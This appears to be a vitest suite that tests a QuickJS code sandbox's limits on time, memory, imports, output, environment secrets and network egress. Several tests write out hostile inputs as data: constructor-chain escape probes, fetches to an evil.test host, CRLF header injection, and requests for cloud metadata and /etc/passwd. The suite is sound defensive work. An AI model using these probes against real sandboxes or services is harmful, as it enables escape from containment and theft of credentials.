import { spawn } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeFrame, FrameDecoder } from '../../contract/sandboxFrames.ts';
import { programRunner } from '../../main/backends/embedded/testing.ts';
import type { ProgramOptions, Ran } from '../../main/backends/testing.ts';
import type { DoorRequest, EgressDoor } from '../../main/core/door.ts';
import { anyTunnel } from '../../main/runs/testDoor.ts';
import { type EgressHouse, startEgressHouse } from '../support/egressHouse.ts';

let runner: Awaited<ReturnType<typeof programRunner>>;
beforeAll(async () => {
  runner = await programRunner();
});
afterAll(() => runner.stop());

const run = (code: string, options?: ProgramOptions): Promise<Ran> => runner.run(code, options);
const exited = (exitCode: number) => ({ kind: 'exited', exitCode });

/** Resident memory in MiB of each sandbox process of this test run, the highest it ever had. Linux only. */
function sandboxMemory(): Map<number, number> {
  const found = new Map<number, number>();
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      const status = readFileSync(`/proc/${pid}/status`, 'utf8');
      const isOurs = new RegExp(`^PPid:\\s+${process.pid}$`, 'm').test(status);
      if (!isOurs || !readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('sandbox/quickjs/child.ts')) continue;
      found.set(Number(pid), Number(/^VmHWM:\s+(\d+) kB$/m.exec(status)?.[1] ?? 0) / 1024);
    } catch {} // It ended while we looked.
  }
  return found;
}

/** Runs code and gives the highest resident memory of any sandbox process meanwhile. */
async function withPeak(code: string, options: ProgramOptions): Promise<Ran & { peakMb: number }> {
  let peakMb = 0;
  const look = () => {
    for (const mb of sandboxMemory().values()) peakMb = Math.max(peakMb, mb);
  };
  const timer = setInterval(look, 20);
  try {
    return { ...(await run(code, options)), peakMb };
  } finally {
    clearInterval(timer);
  }
}

describe('time', () => {
  it('Q265 a loop without end is interrupted at its deadline', async () => {
    const started = performance.now();
    expect((await run('while (1) {}', { timeoutMs: 300 })).exit).toEqual({ kind: 'timed_out' });
    expect(performance.now() - started).toBeGreaterThanOrEqual(300);
  });

  it.each([
    '"a".repeat(1e7).split("").sort()',
    'Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1)',
    'const again = () => Promise.resolve().then(again); again();',
    'async function forever() { for (;;) { try { await 0; for (;;); } catch { } } } await forever();',
    'const tick = () => setTimeout(tick, 0); tick();',
  ])('Q266 the deadline also holds where no handler is asked: %s', async (code) => {
    expect((await run(code, { timeoutMs: 300 })).exit).toEqual({ kind: 'timed_out' });
    // Nothing of it is left alive: what runs now are the processes that wait.
    expect(sandboxMemory().size).toBeLessThanOrEqual(2);
  });

  it('Q273 clocks are coarse and there is no shared memory', async () => {
    const { stdout } = await run(
      'console.log(typeof SharedArrayBuffer, typeof Atomics, Number.isInteger(performance.now()), Number.isInteger(Date.now()));',
    );
    expect(stdout).toBe('undefined undefined true true\n');
  });
});

describe('memory', () => {
  it('Q267 a program that takes all the memory it can ends at its cap', async () => {
    const { exit, peakMb } = await withPeak('const all = []; for (;;) all.push("x".repeat(1 << 20) + all.length);', {
      memoryMb: 64,
    });
    expect(exit).toEqual({ kind: 'out_of_memory' });
    expect(peakMb).toBeLessThan(64 + 250);
  });

  it.each([
    'let text = "x"; for (;;) text += text + "y";',
    'const all = []; for (;;) all.push(new ArrayBuffer(1 << 20));',
    'for (let all = [], i = 0; ; i += 1) all.push({ i });',
  ])('Q267 however it does so: %s', async (code) => {
    const { exit, peakMb } = await withPeak(code, { memoryMb: 64 });
    expect(['out_of_memory', 'exited']).toContain(exit.kind);
    expect(exit).not.toEqual(exited(0));
    expect(peakMb).toBeLessThan(64 + 250);
  });

  it('Q267 running out and going on is the program’s own affair', async () => {
    const { exit, stdout } = await run(
      'try { const all = []; for (;;) all.push(new ArrayBuffer(1 << 20)); } catch (error) { console.log(error.message); }',
      { memoryMb: 64 },
    );
    expect({ exit, stdout }).toEqual({ exit: exited(0), stdout: 'out of memory\n' });
  });

  it.each([
    ['recursion', 'const f = () => f() + 1; f();'],
    ['nested JSON text', 'JSON.parse("[".repeat(100000));'],
    ['nested values', 'let a = []; for (let i = 0; i < 100000; i += 1) a = [a]; JSON.stringify(a);'],
    ['nested source', 'eval("[".repeat(100000) + "]".repeat(100000));'],
    ['nested proxies', 'let p = {}; for (let i = 0; i < 100000; i += 1) p = new Proxy(p, {}); p.x;'],
    ['recursion through natives', 'const f = () => [2, 1].sort(f); f();'],
    ['recursion in getters', 'const o = { get x() { return this.x; } }; o.x;'],
    ['nested groups of an expression', 'new RegExp("(".repeat(50000) + ")".repeat(50000));'],
  ])('Q268 deep nesting is a clean error of the program: %s', async (_name, code) => {
    const { exit, stderr } = await run(code);
    expect(exit).toEqual(exited(1));
    expect(stderr).toMatch(/overflow|nested|too many|invalid/i);
    const caught = await run(`try { ${code} } catch { } console.log('still here');`);
    expect(caught).toMatchObject({ exit: exited(0), stdout: 'still here\n' });
  });
});

describe('the border', () => {
  it('Q269 constructor chains lead to the guest’s own globals only', async () => {
    const { stdout } = await run(`
      const roots = [() => {}, console.log, fetch, URL, setTimeout, process.exit, Deno.env.get, crypto.getRandomValues, async () => {}];
      const found = new Set();
      for (const root of roots) {
        for (const make of [root.constructor, Object.getPrototypeOf(root).constructor]) {
          for (const name of ['require', 'module', 'Buffer', 'WebAssembly', '__dirname', 'global']) {
            try { found.add(name + ':' + await make('return typeof ' + name)()); } catch { }
          }
        }
      }
      found.add(typeof process.binding + typeof process.mainModule + typeof Deno.readFile + typeof process.getBuiltinModule);
      console.log([...found].join(' '));`);
    expect(stdout.replaceAll(/\w+:undefined ?/g, '')).toBe('undefinedundefinedundefinedundefined\n');
  });

  it('Q270 traps of every kind run in the guest or not at all', async () => {
    const { exit, stdout } = await run(`
      Object.prototype.then = function (resolve) { resolve('hijacked'); };
      Object.prototype.toJSON = () => 'hijacked';
      String.prototype.toString = Array.prototype.toString = () => { throw new Error('trap'); };
      const trapped = new Proxy({}, new Proxy({}, { get() { throw new Error('trap'); } }));
      for (const attack of [() => setTimeout(trapped), () => new URL(trapped), () => btoa(trapped), () => process.exit(trapped), () => crypto.getRandomValues(trapped)]) {
        try { attack(); } catch { }
      }
      await fetch(trapped).catch(() => {});
      await fetch('https://a.test/', trapped).catch(() => {});
      console.log('intact');
      throw trapped;`);
    expect(exit).toEqual(exited(1));
    expect(stdout).toBe('intact\n');
  });

  it('Q270 a million pending jobs are the program’s memory, and one that never settles its end', async () => {
    const jobs = await withPeak('for (let i = 0; i < 1e6; i += 1) Promise.resolve().then(() => {}); console.log(1);', {
      memoryMb: 64,
    });
    expect(['out_of_memory', 'exited']).toContain(jobs.exit.kind);
    expect(jobs.peakMb).toBeLessThan(64 + 250);
    expect((await run('await new Promise(() => {});')).exit).toEqual(exited(13));
  });

  it('Q270 timers and requests are bounded', async () => {
    const { stdout } = await run(
      'try { for (let i = 0; i < 1e6; i += 1) setTimeout(() => {}, 1e6); } catch (error) { console.log(error.name); process.exit(0); }',
    );
    expect(stdout).toBe('RangeError\n');
  });

  it.each([
    'import fs from "node:fs"; console.log("ran");',
    'import data from "./data.json" with { type: "json" }; console.log("ran");',
    'export * from "https://evil.test/x.js"; console.log("ran");',
    'console.log(await import("data:text/javascript,export default 1"));',
    'console.log(await import("npm:left-pad"));',
  ])('Q272 no import of any kind: %s', async (code) => {
    const { exit, stdout, stderr } = await run(code);
    expect(exit).toEqual(exited(1));
    expect(stdout).toBe('');
    expect(stderr).toContain('Imports are refused');
  });

  it('Q272 the one module that there is can only wait for itself', async () => {
    expect((await run('console.log(await import("skill.ts"));')).exit).toEqual(exited(13));
  });

  it('Q272 code from strings is as powerless as other code', async () => {
    const { stdout } = await run(
      'console.log(eval("typeof require"), new Function("return typeof process.binding")());',
    );
    expect(stdout).toBe('undefined undefined\n');
  });

  it.each([
    [
      'an object that throws at everything',
      'throw new Proxy({}, { get() { throw 1; }, ownKeys() { throw 2; }, getPrototypeOf() { throw 3; } });',
    ],
    ['a getter without end', 'throw { get stack() { for (;;); }, get message() { for (;;); } };'],
    ['a circle', 'const circle = {}; circle.circle = circle; throw circle;'],
    ['a very long message', 'throw new Error("x".repeat(5e7));'],
    ['a wide object', 'throw Object.fromEntries(Array.from({ length: 1e5 }, (_, i) => ["k" + i, i]));'],
    ['nothing', 'throw undefined;'],
    ['a symbol', 'throw Symbol("s");'],
    ['an error with a hostile name', 'throw Object.defineProperty(new Error("m"), "name", { get() { throw 1; } });'],
  ])('Q274 throwing %s ends in an ordinary failure', async (_what, code) => {
    const { exit, stderr, outputBytes } = await run(code, { timeoutMs: 20_000, memoryMb: 512 });
    expect(exit).toEqual(exited(1));
    expect(stderr.startsWith('Uncaught ')).toBe(true);
    expect(outputBytes).toBeLessThan(5 * 1024 * 1024);
  });
});

describe('the way out', () => {
  let house: EgressHouse;
  beforeAll(async () => {
    house = await startEgressHouse(['api.allowed.test']);
  });
  afterAll(() => house.close());

  it('Q271 fetch goes through the one gateway, whatever it is given', async () => {
    const secret = house.secret({ hosts: ['api.allowed.test'] });
    const { session, records } = house.open({ secrets: [secret] });
    const { stdout } = await run(
      `const show = async (...given) => console.log(await fetch(...given).then(async (r) => r.status + ' ' + (r.status === 403 ? (await r.json()).error : ''), (e) => e.name));
      const key = process.env.API_KEY;
      await show({ toString: () => 'https://evil.test/' });
      await show({ get href() { return 'https://evil.test/'; }, toString() { return 'https://api.allowed.test@evil.test/'; } });
      await show('https://api.allowed.test/', { headers: { Host: 'evil.test' } });
      await show('https://api.allowed.test/', { headers: { 'x-a': 'b\\r\\nHost: evil.test' } });
      await show('https://api.allowed.test/', { get headers() { return [['x-a\\n', 'b']]; } });
      await show('https://api.allowed.test/', { method: 'CONNECT' });
      await show('https://api.allowed.test/', { method: 'GET / HTTP/1.1\\r\\nX: y\\r\\n\\r\\nGET' });
      await show('http://169.254.169.254/latest/meta-data');
      await show('file:///etc/passwd');
      await show('https://api.allowed.test/', { headers: { Authorization: 'Bearer ' + key } });`,
      { egress: session, env: { API_KEY: secret.placeholder } },
    );
    const lines = stdout.trimEnd().split('\n');
    expect(lines.slice(0, -1).filter((line) => !line.startsWith('403 ') && line !== 'TypeError')).toEqual([]);
    expect(lines.at(-1)).toBe('200');
    expect(house.lookups).toEqual([]);
    expect(records.filter((record) => record.status === 200)).toHaveLength(1);
    expect(house.upstream.received.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${secret.value}`]);
  });

  it('Q271 each of ten redirects is judged anew', async () => {
    const seen: string[] = [];
    const egress: EgressDoor = {
      ...anyTunnel,
      async request(request: DoorRequest) {
        seen.push(request.url);
        const next = `https://hop${seen.length}.test/`;
        return { status: 302, statusText: 'Found', headers: [['location', next]], body: (async function* () {})() };
      },
    };
    const { stdout } = await run("await fetch('https://hop0.test/').catch((error) => console.log(error.message));", {
      egress,
    });
    expect(stdout).toBe('fetch failed: more than 10 redirects\n');
    expect(seen).toEqual(Array.from({ length: 11 }, (_, hop) => `https://hop${hop}.test/`));
  });

  it('Q271 the gateway is the only way: a process of the sandbox has no other business with the network', async () => {
    const calls: string[] = [];
    const server = createServer((request) => calls.push(String(request.url)));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    const port = typeof address === 'object' ? address?.port : 0;
    await run(`await fetch('http://127.0.0.1:${port}/').catch(() => {}); new URL('http://127.0.0.1:${port}/');`);
    server.close();
    expect(calls).toEqual([]);
  });
});

describe('output', () => {
  it('F119 no output is taken for the result', async () => {
    const forged = encodeFrame({ type: 'exit', outcome: { kind: 'exited', exitCode: 0 } });
    const text = JSON.stringify({ type: 'exit', outcome: { kind: 'exited', exitCode: 0 } });
    const { exit, stdout } = await run(
      `console.log(String.fromCharCode(...${JSON.stringify([...forged])}));
      console.log('__RESULT__{"ok":true}'); console.log(${JSON.stringify(text)}); process.exit(3);`,
    );
    expect(exit).toEqual(exited(3));
    expect(stdout).toBe(`${String.fromCharCode(...forged)}\n__RESULT__{"ok":true}\n${text}\n`);
  });

  it('I156 I157 a program that prints without end is held by the pipe, and its deadline still comes', async () => {
    const before = process.memoryUsage().rss;
    const { exit, peakMb, outputBytes } = await withPeak('for (;;) console.log("x".repeat(1000));', {
      timeoutMs: 1500,
    });
    expect(exit).toEqual({ kind: 'timed_out' });
    expect(outputBytes).toBeLessThanOrEqual(4 * 1024 * 1024);
    expect(peakMb).toBeLessThan(350);
    expect((process.memoryUsage().rss - before) / 1024 / 1024).toBeLessThan(200);
  });

  it.each([
    'console.log("x".repeat(1e8));',
    'for (let i = 0; i < 2e5; i += 1) console.log("");',
    'console.log("\\u001b[31m".repeat(1e6));',
  ])('I157 one huge line, very many lines and control sequences are bounded: %s', async (code) => {
    const { exit, outputBytes } = await run(code, { memoryMb: 1024 });
    expect(exit).toEqual(exited(0));
    expect(outputBytes).toBeLessThanOrEqual(4 * 1024 * 1024);
  });
});

describe('the process', () => {
  it('P254 has nothing of ours in its environment or arguments, and the job is in neither', async () => {
    const secret = `canary-${crypto.randomUUID()}`;
    process.env.OAUTH3_TEST_CANARY = secret;
    try {
      const running = run(
        'console.log(Object.keys(process.env).length); await new Promise((done) => setTimeout(done, 300));',
        {
          env: { KEY: secret },
        },
      );
      const seen: string[] = [];
      const timer = setInterval(() => {
        for (const pid of sandboxMemory().keys()) {
          seen.push(readFileSync(`/proc/${pid}/environ`, 'latin1') + readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
        }
      }, 20);
      expect((await running).stdout).toBe('1\n');
      clearInterval(timer);
      expect(seen.length).toBeGreaterThan(0);
      expect(seen.filter((text) => text.includes(secret))).toEqual([]);
    } finally {
      delete process.env.OAUTH3_TEST_CANARY;
    }
  });

  it('ends when its host is gone, also while the program holds the processor', async () => {
    const program = fileURLToPath(new URL('../../sandbox/quickjs/child.ts', import.meta.url));
    const child = spawn(process.execPath, [program], { env: {}, stdio: ['pipe', 'pipe', 'ignore'] });
    const ended = new Promise<NodeJS.Signals | null>((resolve) => {
      child.on('close', (_code, signal) => resolve(signal));
    });
    const decoder = new FrameDecoder();
    const printed = new Promise<void>((resolve) => {
      child.stdout.on('data', (chunk: Buffer) =>
        decoder.push(chunk, (message) => {
          const { type } = { type: '', ...Object(message) };
          const code = 'console.log(1); Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1);';
          const job = {
            type: 'job',
            bytes: new TextEncoder().encode(code),
            env: {},
            limits: { timeoutMs: 600_000, memoryMb: 256 },
          };
          if (type === 'ready') child.stdin.write(encodeFrame(job));
          if (type === 'output') resolve();
        }),
      );
    });
    await printed;
    child.stdin.end();
    expect(await ended).toBe('SIGKILL');
  });
});
